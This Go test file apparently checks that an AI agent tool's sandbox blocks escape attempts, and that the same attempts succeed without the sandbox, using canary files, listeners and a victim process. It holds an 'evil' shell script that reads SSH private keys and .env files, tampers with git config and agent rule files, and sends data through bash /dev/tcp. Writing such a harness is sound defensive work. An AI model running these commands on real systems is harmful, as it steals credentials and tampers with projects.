package sandbox_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/superstep-dev/superstep/internal/procgroup"
	"github.com/superstep-dev/superstep/tool/sandbox"
)

// A bypass is a way out of the sandbox, of testdata/bypasses.sh.
type bypass struct {
	name, script string
	needs, hosts []string
	uncounted    string // why it does not count in the control run
}

// prelude is what all scripts begin with. They know
//
//	C         the name by which listeners know them
//	O, H, R   a folder outside, the user's home folder, and the project; they start in $R/work
//	V, VT     a process of the user outside, and a word in its environment
//	T, T6, U, U6, OWN   ports on loopback, TCP and UDP, and an address of the machine with the same ports
//	S, SD, A, AD, PS    Unix sockets: path-named, abstract, and one in the project
//	SHM, MSG  keys of shared memory and of a message queue
//	GC, TD    a cache of Go that may be read, and where the folders of all cases are
//	FD        a descriptor that the program that started it has forgotten to close
const prelude = `
mod() { mkdir m; cd m; cp ../evil.sh .; echo 'module m' >go.mod; printf 'package m\nimport "testing"\nfunc TestX(*testing.T) {}\n' >m_test.go; echo 'package m' >m.go; }
bare() { mkdir -p "$1/objects" "$1/refs"; echo 'ref: refs/heads/main' >"$1/HEAD"; }
repo() { git init -q "$1"; (cd "$1"; echo x >f; git add f; git commit -qm x); }
if [ -n "$GC" ]; then export GOCACHE=$GC; fi
`

const evil = `#!/bin/sh
unset BASH_ENV LD_PRELOAD LD_LIBRARY_PATH
echo x >"$O/pwned"
cat "$O/secret" "$H/.ssh/id_rsa" "$R/.env"
echo x >>"$R/.git/config"
echo x >>"$R/.superstep/tools.md"
bash -c 'echo "$C" >"/dev/tcp/127.0.0.1/$T"'
`

func bypasses(t *testing.T) []bypass {
	t.Helper()
	b, err := os.ReadFile("testdata/bypasses.sh")
	if err != nil {
		t.Fatal(err)
	}
	var all []bypass
	names := map[string]bool{}
	for _, part := range strings.Split("\n"+string(b), "\n=== ")[1:] {
		head, script, _ := strings.Cut(part, "\n")
		words := strings.Fields(head)
		c := bypass{name: words[0], script: script}
		if names[c.name] {
			t.Fatalf("two cases are called %s", c.name)
		}
		names[c.name] = true
		for _, w := range words[1:] {
			key, value, _ := strings.Cut(w, "=")
			switch key {
			case "needs":
				c.needs = strings.Split(value, ",")
			case "network":
				c.hosts = strings.Split(value, ",")
			case "uncounted":
				c.uncounted = value
			default:
				t.Fatalf("case %s: %q", c.name, w)
			}
		}
		all = append(all, c)
	}
	if len(all) < 150 {
		t.Fatalf("%d bypasses, want at least 150", len(all))
	}
	if testing.Short() { // under the race detector, which looks at the package and not at what it confines
		var some []bypass
		for i := 0; i < len(all); i += 10 {
			some = append(some, all[i])
		}
		return some
	}
	return all
}

// ears are listeners that write down who spoke to them.
type ears struct {
	dir, abstract       string
	tcp, tcp6, udp, u6  int
	own                 string // an address of this machine besides loopback, or ""
	mu                  sync.Mutex
	heard               []string
	open                []io.Closer
	wait                sync.WaitGroup
	sentinel            chan string
	shm, msg, shmID, qu int
}

func (e *ears) hear(what, data string) {
	if data == "sentinel" {
		e.sentinel <- what
		return
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	e.heard = append(e.heard, what+": "+data)
}

func (e *ears) stream(l net.Listener, what string) {
	e.open = append(e.open, l)
	e.wait.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			e.wait.Go(func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(time.Minute))
				b := make([]byte, 4096)
				n, _ := c.Read(b) // who says nothing was here as well
				e.hear(what, string(b[:n]))
				_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\n\r\nTOKEN of a listener\n")
			})
		}
	})
}

func (e *ears) packets(c net.PacketConn, what string) {
	e.open = append(e.open, c)
	e.wait.Go(func() {
		b := make([]byte, 4096)
		for {
			n, _, err := c.ReadFrom(b)
			if err != nil {
				return
			}
			e.hear(what, string(b[:n]))
		}
	})
}

func listen(t *testing.T) *ears {
	t.Helper()
	e := &ears{dir: t.TempDir(), sentinel: make(chan string, 20)}
	e.abstract = "superstep-canary-" + strconv.Itoa(os.Getpid()) + "-" + filepath.Base(filepath.Dir(e.dir))
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
			e.own = ip.IP.String()
		}
	}
	stream := func(network, addr string) net.Addr {
		l, err := new(net.ListenConfig).Listen(t.Context(), network, addr)
		if err != nil {
			t.Fatal(err)
		}
		e.stream(l, network+" "+addr)
		return l.Addr()
	}
	packets := func(network, addr string) net.Addr {
		c, err := new(net.ListenConfig).ListenPacket(t.Context(), network, addr)
		if err != nil {
			t.Fatal(err)
		}
		e.packets(c, network+" "+addr)
		return c.LocalAddr()
	}
	e.tcp = stream("tcp4", "0.0.0.0:0").(*net.TCPAddr).Port
	e.udp = packets("udp4", "0.0.0.0:0").(*net.UDPAddr).Port
	if l, err := new(net.ListenConfig).Listen(t.Context(), "tcp6", "[::1]:0"); err == nil {
		e.tcp6 = l.Addr().(*net.TCPAddr).Port
		e.stream(l, "tcp6")
		e.u6 = packets("udp6", "[::1]:0").(*net.UDPAddr).Port
	}
	stream("unix", e.dir+"/s")
	packets("unixgram", e.dir+"/d")
	stream("unix", "@"+e.abstract)
	packets("unixgram", "@"+e.abstract+"-d")
	e.shm, e.msg = os.Getpid()<<8|1, os.Getpid()<<8|2
	if e.shmID, err = unix.SysvShmGet(e.shm, 4096, unix.IPC_CREAT|0o600); err == nil {
		if b, err := unix.SysvShmAttach(e.shmID, 0, 0); err == nil {
			copy(b, "TOKEN of shared memory")
			_ = unix.SysvShmDetach(b)
		}
	}
	q, _, errno := syscall.Syscall(unix.SYS_MSGGET, uintptr(e.msg), unix.IPC_CREAT|0o600, 0)
	if e.qu = int(q); errno == 0 {
		text := append(make([]byte, 8), "TOKEN of a queue\x00"...)
		text[0] = 1
		for range 2 {
			_, _, _ = syscall.Syscall6(unix.SYS_MSGSND, q, uintptr(unsafe.Pointer(&text[0])), uintptr(len(text)-8), unix.IPC_NOWAIT, 0, 0)
		}
	}
	return e
}

// stop returns what was heard, when nothing more can be.
func (e *ears) stop(t *testing.T) []string {
	t.Helper()
	_, _ = unix.SysvShmCtl(e.shmID, unix.IPC_RMID, nil)
	_, _, _ = syscall.Syscall(unix.SYS_MSGCTL, uintptr(e.qu), unix.IPC_RMID, 0)
	want := 0
	for _, c := range e.open {
		var conn net.Conn
		var err error
		switch l := c.(type) {
		case net.Listener:
			conn, err = new(net.Dialer).DialContext(context.Background(), l.Addr().Network(), strings.Replace(l.Addr().String(), "0.0.0.0", "127.0.0.1", 1))
		case net.PacketConn:
			conn, err = new(net.Dialer).DialContext(context.Background(), l.LocalAddr().Network(), strings.Replace(l.LocalAddr().String(), "0.0.0.0", "127.0.0.1", 1))
		}
		if err != nil {
			t.Error(err)
			continue
		}
		if _, err := io.WriteString(conn, "sentinel"); err != nil {
			t.Error(err)
		}
		conn.Close()
		want++
	}
	for range want {
		select {
		case <-e.sentinel:
		case <-time.After(time.Minute):
			t.Error("a listener is deaf: nothing is tested")
		}
	}
	for _, c := range e.open {
		c.Close()
	}
	e.wait.Wait()
	return e.heard
}

// A world is what one case finds.
type world struct {
	id, dir, out, home, root string
	victim                   *exec.Cmd
	before                   map[string]string
}

// canaries are the parts of a world that must stay as they are, with what they hold.
func (w *world) canaries() map[string]string {
	all := map[string]string{}
	add := func(name string) {
		_ = filepath.WalkDir(name, func(path string, d fs.DirEntry, err error) error {
			if err != nil || strings.Contains(filepath.Base(path), ".refused-") {
				return nil
			}
			rel, _ := filepath.Rel(w.dir, path)
			var st unix.Stat_t
			_ = unix.Lstat(path, &st) // it may be gone
			attributes := fmt.Sprintf("%v %o %d:%d", d.Type(), st.Mode, st.Uid, st.Gid)
			if d.Type()&fs.ModeSymlink == 0 {
				n, _ := unix.Getxattr(path, "user.canary", nil) // none is an error
				attributes += fmt.Sprintf(" %d", n)
			}
			switch {
			case d.Type()&fs.ModeSymlink != 0:
				to, _ := os.Readlink(path)
				all[rel] = attributes + " link to " + to
			case d.Type().IsRegular():
				b, _ := os.ReadFile(path)
				all[rel] = fmt.Sprintf("%s %d %s", attributes, st.Mtim.Nano(), b)
			default:
				all[rel] = attributes
			}
			return nil
		})
	}
	add(w.out)
	add(w.dir + "/tmp-canary")
	for _, name := range []string{
		".bashrc", ".profile", ".ssh", ".npmrc", ".npm/_cacache", ".cache/go-build", ".config/go/env", ".config/superstep", ".config/autostart", ".config/systemd",
		".local/share/superstep", ".cargo", ".local/bin", "go",
	} {
		add(filepath.Join(w.home, name))
	}
	for _, name := range []string{
		".env", "sub/deep/.env", "sub/dotenv", "sub/AGENTS.md", "sub/.superstep", ".superstep", ".git/hooks", ".git/config", ".git/config.worktree", ".git/commondir", ".git/info",
		".git/modules", ".git/worktrees",
	} {
		add(filepath.Join(w.root, name))
	}
	if info, err := os.Lstat(w.root + "/.git"); err != nil || !info.IsDir() {
		all["p/.git"] = "no folder"
	}
	return all
}

func newWorld(t *testing.T, dir string, n int, c bypass) *world {
	t.Helper()
	w := &world{id: fmt.Sprintf("case%03dx", n), dir: filepath.Join(dir, strconv.Itoa(n))}
	w.out, w.home, w.root = w.dir+"/o", w.dir+"/h", w.dir+"/p"
	write(t, w.out+"/secret", "TOKEN of a file outside\n")
	write(t, w.out+"/dir/file", "TOKEN of a folder outside\n")
	for _, name := range []string{".bashrc", ".profile", ".ssh/id_rsa", ".ssh/authorized_keys", ".config/superstep/trust.yaml", ".local/share/superstep/runs", ".cache/go-build/README", ".npmrc", ".cargo/env", ".local/bin/x", "go/bin/x"} {
		write(t, filepath.Join(w.home, name), "# TOKEN of the home folder\n")
	}
	for name, text := range map[string]string{
		".env": "KEY=TOKEN of .env\n", "sub/deep/.env": "KEY=TOKEN of another .env\n", "sub/deep/file": "x\n", "sub/.superstep/tools.md": "tools\n", ".superstep/tools.md": "tools\n",
		"sub/rules.md": "rules\n", "work/README": "work\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[user]\n\tname = x\n\temail = x@localhost\n",
		".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/README": "none\n", ".git/info/attributes": "# none\n",
	} {
		write(t, filepath.Join(w.root, name), text)
	}
	for _, name := range []string{".git/objects/info", ".git/refs/heads", ".git/refs/tags"} {
		if err := os.MkdirAll(filepath.Join(w.root, name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for link, to := range map[string]string{"sub/AGENTS.md": "rules.md", "sub/dotenv": "../.env"} {
		if err := os.Symlink(to, filepath.Join(w.root, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(w.root+"/work/evil.sh", []byte(evil), 0o755); err != nil { //nolint:gosec // a program
		t.Fatal(err)
	}
	if strings.Contains(c.script, "$V") || strings.Contains(c.script, `"V"`) {
		w.victim = exec.Command("/bin/bash", "-c", `exec 9<secret; exec sleep 600`)
		w.victim.Dir, w.victim.Env = w.out, []string{"PATH=" + os.Getenv("PATH"), "VICTIM=TOKEN of a process " + w.id}
		w.victim.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
		if err := w.victim.Start(); err != nil {
			t.Fatal(err)
		}
		for !slices.ContainsFunc(words(w.victim.Process.Pid, "comm"), func(s string) bool { return s == "sleep" }) {
			time.Sleep(time.Millisecond) // until bash has become sleep
		}
	}
	w.before = w.canaries()
	return w
}

func words(pid int, file string) []string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, file))
	return strings.Fields(string(b))
}

// changed are the canaries that were touched, without those that listen.
func (w *world) changed() []string {
	var out []string
	after := w.canaries()
	for _, name := range slices.Sorted(maps.Keys(w.before)) {
		if _, ok := after[name]; !ok {
			out = append(out, name+" is gone")
		}
	}
	for _, name := range slices.Sorted(maps.Keys(after)) {
		if text, ok := w.before[name]; !ok || text != after[name] {
			out = append(out, fmt.Sprintf("%s is %.60q", name, after[name]))
		}
	}
	return out
}

// attempt runs one case in a world and returns which canaries of the world were touched.
func (w *world) attempt(t *testing.T, s *sandbox.Sandbox, c bypass, e *ears, goCache string) []string {
	t.Helper()
	env := []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + w.home, "LANG=C", "GOTOOLCHAIN=local", "GOPROXY=off", "GOFLAGS=-buildvcs=false", "GOTELEMETRY=off", "GIT_AUTHOR_NAME=x", "GIT_AUTHOR_EMAIL=x@x",
		"GIT_COMMITTER_NAME=x", "GIT_COMMITTER_EMAIL=x@x", "C=" + w.id, "O=" + w.out, "H=" + w.home, "R=" + w.root, "VT=" + w.id, "OWN=" + e.own, "S=" + e.dir + "/s", "SD=" + e.dir + "/d",
		"A=" + e.abstract, "AD=" + e.abstract + "-d", "PS=" + w.root + "/sub/sock", "GC=" + goCache, "TD=" + filepath.Dir(w.dir),
	}
	for name, n := range map[string]int{"T": e.tcp, "T6": e.tcp6, "U": e.udp, "U6": e.u6, "SHM": e.shm, "MSG": e.msg} {
		env = append(env, name+"="+strconv.Itoa(n))
	}
	if w.victim != nil {
		env = append(env, "V="+strconv.Itoa(w.victim.Process.Pid))
	}
	if strings.Contains(c.script, "FD") {
		for _, name := range []string{w.out, w.out + "/secret"} {
			fd, err := unix.Open(name, unix.O_RDONLY, 0) // for anybody that this process starts
			if err != nil {
				t.Fatal(err)
			}
			defer unix.Close(fd)
			env = append(env, "FD="+strconv.Itoa(fd))
		}
	}
	stdout, stderr := filepath.Join(w.dir, "stdout"), filepath.Join(w.dir, "stderr")
	var files []*os.File
	for _, name := range []string{stdout, stderr} {
		f, err := os.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		files = append(files, f)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 90*time.Second)
	defer cancel()
	cmd := s.Command(ctx, append(env, procgroup.GitSafe()...), "/bin/bash", "-c", prelude+c.script)
	cmd.Dir, cmd.Stdout, cmd.Stderr = w.root+"/work", files[0], files[1]
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait() // most fail
	if err := ctx.Err(); err != nil {
		t.Errorf("it took too long: %v", err)
	}
	fired := w.changed()
	said, err := os.ReadFile(stdout)
	if err != nil {
		t.Fatal(err)
	}
	if at := bytes.Index(said, []byte("TOKEN")); at >= 0 {
		fired = append(fired, fmt.Sprintf("it learned %.60q", said[at:]))
	}
	if w.victim != nil {
		limits, _ := os.ReadFile(fmt.Sprintf("/proc/%d/limits", w.victim.Process.Pid))
		score := words(w.victim.Process.Pid, "oom_score_adj")
		state := append(words(w.victim.Process.Pid, "stat"), "", "", "Z")[2]
		switch {
		case state == "Z" || state == "X":
			fired = append(fired, "a process outside was ended")
		case bytes.Contains(limits, []byte(" 5                    5 ")):
			fired = append(fired, "a process outside has other limits")
		case slices.Contains(score, "77"):
			fired = append(fired, "a process outside is killed first")
		}
		_ = w.victim.Process.Kill()
		_ = w.victim.Wait()
	}
	if b, err := os.ReadFile(stderr); err == nil {
		t.Logf("%s", b)
	}
	return fired
}

// breakOut runs all cases and returns which canaries each touched, by their names. Those that need what the
// system does not have are left out.
func breakOut(t *testing.T, mode sandbox.Mode, check func(t *testing.T, c bypass, fired []string)) map[string][]string {
	t.Helper()
	all := bypasses(t)
	e := listen(t)
	dir := t.TempDir()
	if out, err := exec.Command("git", "--version").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	goCache := ""
	if out, err := exec.Command("go", "env", "GOCACHE").Output(); err == nil {
		goCache = strings.TrimSpace(string(out))
	}
	var mu sync.Mutex
	fired := map[string][]string{}
	var worlds []*world
	t.Run("cases", func(t *testing.T) {
		for n, c := range all {
			t.Run(c.name, func(t *testing.T) {
				t.Parallel()
				for _, p := range c.needs {
					if _, err := exec.LookPath(p); err != nil && p != "own" || p == "own" && e.own == "" {
						t.Skipf("it needs %s", p)
					}
				}
				if mode == sandbox.None && c.uncounted != "" {
					t.Skip(c.uncounted)
				}
				w := newWorld(t, dir, n, c)
				if strings.Contains(c.script, "PS") {
					l, err := new(net.ListenConfig).Listen(t.Context(), "unix", w.root+"/sub/sock")
					if err != nil {
						t.Fatal(err)
					}
					l.(*net.UnixListener).SetUnlinkOnClose(false)
					mu.Lock()
					e.stream(l, "the socket of the project "+w.id)
					mu.Unlock()
					defer l.Close()
				}
				s, err := sandbox.New(&sandbox.Options{
					Root: w.root, Home: w.home, Environ: []string{"PATH=" + os.Getenv("PATH")}, Temp: w.dir, Mode: mode,
					Hide: func(name string) bool { return strings.HasPrefix(filepath.Base(name), ".env") },
					Protect: func(name string) bool {
						return filepath.Base(name) == ".superstep" || filepath.Base(name) == "AGENTS.md" || strings.Contains(name, "/.superstep/")
					},
					Policy: sandbox.Policy{Read: slices.DeleteFunc([]string{goCache}, func(s string) bool { return s == "" }), Network: c.hosts},
				})
				if err != nil {
					t.Fatal(err)
				}
				defer func() {
					if err := s.Close(); err != nil {
						t.Error(err)
					}
				}()
				got := w.attempt(t, s, c, e, goCache)
				mu.Lock()
				fired[c.name], worlds = got, append(worlds, w)
				mu.Unlock()
				if check != nil {
					check(t, c, got)
				}
			})
		}
	})
	e.open = slices.DeleteFunc(e.open, func(c io.Closer) bool {
		l, ok := c.(*net.UnixListener)
		return ok && strings.HasPrefix(l.Addr().String(), dir)
	})
	who := regexp.MustCompile(`case(\d\d\d)x`)
	for _, h := range e.stop(t) {
		m := who.FindStringSubmatch(h)
		if m == nil {
			fired["somebody"] = append(fired["somebody"], h)
			continue
		}
		n, _ := strconv.Atoi(m[1])
		fired[all[n].name] = append(fired[all[n].name], h)
	}
	for _, w := range worlds { // once more, for those that came late
		n, _ := strconv.Atoi(filepath.Base(w.dir))
		if len(fired[all[n].name]) == 0 {
			fired[all[n].name] = w.changed()
		}
	}
	return fired
}

// Nothing gets out, whatever the rules allowed.
func TestBypasses(t *testing.T) {
	modes(t, func(t *testing.T, mode sandbox.Mode) {
		fired := breakOut(t, mode, func(t *testing.T, _ bypass, fired []string) {
			for _, f := range fired {
				t.Error(f)
			}
		})
		for _, name := range slices.Sorted(maps.Keys(fired)) {
			for _, f := range fired[name] {
				t.Errorf("%s: %s", name, f)
			}
		}
		t.Logf("%d bypasses", len(fired))
	})
}

// Without a sandbox most of them get out, or they would prove nothing.
func TestBypassesControl(t *testing.T) {
	if testing.Short() {
		t.Skip("a sample proves nothing")
	}
	fired := breakOut(t, sandbox.None, nil)
	out, silent := 0, []string{}
	for _, name := range slices.Sorted(maps.Keys(fired)) {
		if len(fired[name]) > 0 {
			out++
		} else {
			silent = append(silent, name)
		}
	}
	t.Logf("%d of %d get out without a sandbox; not: %s", out, len(fired), strings.Join(silent, ", "))
	if out*5 < len(fired)*4 {
		t.Errorf("%d of %d bypasses get out without a sandbox, want four fifths: they prove nothing", out, len(fired))
	}
}
